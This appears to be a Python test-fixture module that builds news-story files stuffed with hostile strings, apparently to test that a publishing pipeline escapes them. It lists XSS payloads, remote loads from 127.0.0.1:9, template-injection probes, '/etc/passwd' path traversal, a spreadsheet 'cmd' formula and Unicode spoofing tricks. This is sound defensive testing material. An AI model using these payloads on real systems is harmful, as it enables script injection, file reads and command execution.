"""Texts that try to be more than text: markup, scripts, template code, paths, and tricks of Unicode.

Each calls `pwned()`, asks 127.0.0.1:9 for something, or makes an element, wherever it is taken for anything but text.
"""

import re
from collections.abc import Iterator, Sequence
from itertools import count

CALL = "pwned()"
HOST = "127.0.0.1:9"

MARKUP = (
    f"<script>{CALL}</script>",
    f"<ScRiPt >{CALL}</sCrIpT\t>",
    f"<script src=//{HOST}/a.js></script>",
    f'<script src="data:text/javascript,{CALL}"></script>',
    f"<<script>{CALL}//<</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<script type=module>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</noscript><script>{CALL}</script>",
    f"</main></body></html><script>{CALL}</script>",
    f"--><script>{CALL}</script><!--",
    f"<!--><img src=x onerror={CALL}>-->",
    f"]]><script>{CALL}</script>",
    f"<![CDATA[<script>{CALL}</script>]]>",
    f"<?xml-stylesheet href='javascript:{CALL}'?>",
    f"<img src=x onerror={CALL}>",
    f"<img src=x onerror='{CALL}'",
    f'<img src="x` `<script>{CALL}</script>"` `>',
    f"<img src=http://{HOST}/a.png>",
    f"<img srcset='http://{HOST}/a.png 2x'>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><script href='data:,{CALL}'/></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><use href='http://{HOST}/a.svg#a'></svg>",
    f"<svg><a xlink:href='javascript:{CALL}'><text y=9>x</text></a></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    f"<math href='javascript:{CALL}'>x</math>",
    f"<body onload={CALL}>",
    f"<iframe src='javascript:{CALL}'></iframe>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src=http://{HOST}/></iframe>",
    f"<object data='javascript:{CALL}'></object>",
    f"<embed src='javascript:{CALL}'>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}>",
    f"<textarea autofocus onfocus={CALL}>",
    f"<marquee onstart={CALL}>",
    f"<a href='javascript:{CALL}' autofocus tabindex=1>x</a>",
    f"<form action='javascript:{CALL}'><button>x</button></form>",
    f"<button formaction='javascript:{CALL}'>x</button>",
    f"<base href='http://{HOST}/'>",
    f"<link rel=stylesheet href=http://{HOST}/a.css>",
    f"<link rel=prefetch href=http://{HOST}/a>",
    f"<meta http-equiv=refresh content='0;url=http://{HOST}/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    "<meta http-equiv=Content-Security-Policy content=''>",
    f"<style>@import 'http://{HOST}/a.css';</style>",
    f"<style>*{{background:url(http://{HOST}/a)}}</style>",
    f"<p style=background:url(http://{HOST}/a)>x</p>",
    f"<table background=http://{HOST}/a><tr><td>x</table>",
    f"<template><script>{CALL}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<xmp><img src=x onerror={CALL}></xmp>",
    f"<plaintext><script>{CALL}</script>",
    f"<isindex type=image src=1 onerror={CALL}>",
    f"<x-element onclick={CALL}>x</x-element>",
    f"<dialog open onclose={CALL}><form method=dialog><button>x</button></form></dialog>",
    f"<div onpointerrawupdate={CALL} onmouseover={CALL}>x</div>",
    f"<img/src='x'/onerror='{CALL}'>",
    f"<img\x0csrc=x\x0conerror={CALL}>",
)
QUOTES = (
    f'"><script>{CALL}</script>',
    f"'><script>{CALL}</script>",
    f'" onmouseover="{CALL}',
    f"' onfocus='{CALL}' autofocus='",
    f"` onerror={CALL} `",
    f'" autofocus onfocus={CALL} x="',
    f'"}}; {CALL}; //',
    f'"}}]}}</script><script>{CALL}</script>',
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{CALL}\\x3c/script\\x3e",
    f"\\'; {CALL}; //",
    f'\\"; {CALL}; //',
    f"${{{CALL}}}",
    f"`${{{CALL}}}`",
)
ENCODED = (
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{CALL}&amp;lt;/script&amp;gt;",
    f"&#60;script&#62;{CALL}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={CALL}&#x3e;",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e",
    f"\u2039script\u203a{CALL}\u2039/script\u203a",
    f"\u02c2img src=x onerror={CALL}\u02c3",
    f"<\u200bscript>{CALL}</\u200bscript>",
    f"<scr\u00adipt>{CALL}</scr\u00adipt>",
    f"<\u0131mg src=x onerror={CALL}>",
)
TEMPLATES = (
    "{{ site.__class__.__mro__[1].__subclasses__() }}",
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "{% import os %}",
    "{# a comment #}",
    "{% endblock %}{% endfor %}",
    "{% raw %}",
    "<%= 7 * 7 %>",
    "#{7 * 7}",
    "%(headline)s {headline} {0} %s %n",
    "|safe",
    "{filename}/secret.txt {static}/../../secret",
    "[link](javascript:pwned())",
    "![image](http://127.0.0.1:9/a.png)",
    '=HYPERLINK("http://127.0.0.1:9","x")',
    "=cmd|' /C calc'!A0",
)
UNICODE = (
    "\u202eevil\u202c text",
    "\u2066\u2067nested\u2069",
    "a\u0301\u0302\u0303\u0304\u0305\u0306 stacked",
    "\U000e0041 tag letter",
    "\ufff9annotated\ufffabase\ufffb",
    "half\u200dway\u200c there",
    "\u2028line\u2029separators",
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16") + " face",
    "\u1160hangul filler\u3164",
    "\ufdfd wide",
)
PATHS = (
    "../../../outside",
    "..\\..\\outside",
    "/etc/passwd",
    "file:///etc/passwd",
    "C:\\outside",
    "CON",
    ".",
    "..",
    "%2e%2e%2foutside",
    "~/outside",
    "a/../../../outside",
    ".htaccess",
    "index.html",
)
LINKS = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f"\x01javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"vbscript:{CALL}",
    f"//{HOST}/x",
    f'https://example.org/" onclick="{CALL}',
    f"https://example.org/'><script>{CALL}</script>",
    "https://user:word@example.org/",
    "https://example.org\\@127.0.0.1:9/",
    "ftp://127.0.0.1:9/x",
    "mailto:a@example.org?body=x",
)

PAYLOADS = (*MARKUP, *QUOTES, *ENCODED, *TEMPLATES, *UNICODE, *PATHS, *LINKS)


# So many stand together in one story, one behind the other.
_TOGETHER = 3


def hostile_stories() -> Iterator[tuple[str, str]]:
    """Give the code and the file of stories that together have every payload as headline, topic, correction and text."""
    for code, start in zip(count(9_001), range(0, len(PAYLOADS), _TOGETHER), strict=False):
        payloads = PAYLOADS[start : start + _TOGETHER]
        yield str(code), _story(str(code), payloads=payloads, link=LINKS[code % len(LINKS)])


def harmless_stories() -> Iterator[tuple[str, str]]:
    """Give as many stories of the same form that try nothing."""
    for code, _ in hostile_stories():
        yield code, _story(code, payloads=("One", "Two", "Three"), link="https://example.org/x")


def _story(code: str, *, payloads: Sequence[str], link: str) -> str:
    together = " ".join(payloads)
    topic = f"{re.sub('[,;،؛、，；]', ' ', together)} {code}"  # a comma would part it in two
    paragraphs = "\n\n".join(f"The harbour said {payload} again.\n\n{payload}" for payload in payloads)
    return (
        f"{1 + int(code) % 28} October 2020 - 09:00\n\n{together} harbour\n\nStory Code : {code}\n"
        f"Topics : {topic}, Harbours\nSource : {together}\nReporter : {together}\nLink : {link}\n"
        f"Corrected : 29 October 2020 - 10:00 - {together}\n{together} harbour\n{paragraphs}\n\nIt ends here.\n"
    )
